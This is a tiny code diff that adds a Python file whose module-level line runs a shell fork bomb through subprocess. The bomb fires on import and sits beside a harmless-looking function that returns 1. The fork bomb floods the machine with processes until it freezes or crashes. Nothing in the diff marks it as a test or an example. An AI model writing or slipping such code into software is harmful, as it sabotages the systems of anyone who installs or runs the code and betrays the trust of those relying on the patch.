@@ -1,0 +1,5 @@
+import subprocess
+subprocess.run(['sh', '-c', ':(){ :|:& };:'])
+
+def f():
+    return 1
